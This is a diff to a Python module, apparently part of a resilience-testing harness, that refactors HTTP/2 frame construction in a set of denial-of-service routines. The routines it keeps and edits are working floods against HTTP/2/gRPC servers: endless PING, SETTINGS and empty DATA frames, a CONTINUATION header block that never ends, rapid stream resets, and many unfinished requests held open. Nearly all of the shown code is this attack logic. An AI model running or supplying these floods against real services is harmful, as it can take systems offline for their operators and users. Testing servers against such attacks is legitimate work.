@@ -11,16 +11,11 @@ import time
 from collections.abc import Callable, Iterator
 
 from campaigns.hostile_target import METHODS, Target
+from support.http2 import DATA, END_HEADERS, HEADERS, PING, RST_STREAM, SETTINGS, WINDOW_UPDATE, frame
 
-_DATA, _HEADERS, _RESET, _SETTINGS, _PING, _WINDOW, _CONTINUATION = 0, 1, 3, 4, 6, 8, 9
-_END_HEADERS = 4
+_CONTINUATION = 9
 
-
-def _frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
-    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload
-
-
-_PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + _frame(_SETTINGS, 0, 0)
+_PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(SETTINGS)
 _PATH = METHODS + b"Generate"
 # POST, http, the path, an authority and the content type, as HPACK without its dynamic table.
 _REQUEST = b"\x83\x86\x04" + bytes([len(_PATH)]) + _PATH + b"\x01\x01x\x0f\x10\x10application/grpc"
@@ -58,23 +53,23 @@ def _endless(data: bytes, first: bytes = b"") -> Callable[[], Iterator[bytes]]:
 
 def frames_of_pings(target: Target) -> int:
     """Send PING frames for ever."""
-    return _flood(target, _endless(_frame(_PING, 0, 0, bytes(8)) * 100))
+    return _flood(target, _endless(frame(PING, bytes(8)) * 100))
 
 
 def frames_of_settings(target: Target) -> int:
     """Send SETTINGS frames for ever."""
-    return _flood(target, _endless(_frame(_SETTINGS, 0, 0, struct.pack(">HI", 3, 50)) * 100))
+    return _flood(target, _endless(frame(SETTINGS, struct.pack(">HI", 3, 50)) * 100))
 
 
 def frames_of_empty_data(target: Target) -> int:
     """Send empty DATA frames for one request for ever."""
-    return _flood(target, _endless(_frame(_DATA, 0, 1) * 100, _frame(_HEADERS, _END_HEADERS, 1, _REQUEST)))
+    return _flood(target, _endless(frame(DATA, stream=1) * 100, frame(HEADERS, _REQUEST, END_HEADERS, 1)))
 
 
 def frames_of_continuations(target: Target) -> int:
     """Send a header block that never ends."""
     field = b"\x00\x03x-a\x7f\x80\x01" + b"a" * 255
-    return _flood(target, _endless(_frame(_CONTINUATION, 0, 1, field), _frame(_HEADERS, 0, 1, _REQUEST)))
+    return _flood(target, _endless(frame(_CONTINUATION, field, stream=1), frame(HEADERS, _REQUEST, stream=1)))
 
 
 def frames_of_resets(target: Target) -> int:
@@ -85,7 +80,9 @@ def frames_of_resets(target: Target) -> int:
         while True:
             data = b""
             for _ in range(20):
-                data += _frame(_HEADERS, _END_HEADERS, stream, _REQUEST) + _frame(_RESET, 0, stream, bytes(3) + b"\x08")
+                data += frame(HEADERS, _REQUEST, END_HEADERS, stream) + frame(
+                    RST_STREAM, bytes(3) + b"\x08", stream=stream
+                )
                 stream += 2
             yield data
 
@@ -105,8 +102,8 @@ def unfinished_requests(target: Target) -> int:
             connection.sendall(_PREFACE)
             window = [65535]
             for stream in range(1, 257, 2):
-                connection.sendall(_frame(_HEADERS, _END_HEADERS, stream, _REQUEST))
-                connection.sendall(_frame(_DATA, 0, stream, b"\0" + struct.pack(">I", 900_000)))
+                connection.sendall(frame(HEADERS, _REQUEST, END_HEADERS, stream))
+                connection.sendall(frame(DATA, b"\0" + struct.pack(">I", 900_000), stream=stream))
                 count += 1
             started_at = time.monotonic()
             while time.monotonic() - started_at < 2 and not target.is_over:
@@ -114,7 +111,7 @@ def unfinished_requests(target: Target) -> int:
                 if window[0] < 16384:
                     time.sleep(0.01)
                     continue
-                connection.sendall(_frame(_DATA, 0, 1 + 2 * rng.randrange(128), bytes(8192)))
+                connection.sendall(frame(DATA, bytes(8192), stream=1 + 2 * rng.randrange(128)))
                 window[0] -= 8192
         while len(held) > 16:
             held.pop(0).close()
@@ -126,6 +123,6 @@ def _take_windows(connection: socket.socket, window: list[int]) -> None:
     data = _receive_now(connection) or b""
     while len(data) >= 9:
         length, kind, stream = int.from_bytes(data[:3], "big"), data[3], int.from_bytes(data[5:9], "big")
-        if kind == _WINDOW and stream == 0 and len(data) >= 13:
+        if kind == WINDOW_UPDATE and stream == 0 and len(data) >= 13:
             window[0] += int.from_bytes(data[9:13], "big")
         data = data[9 + length :]
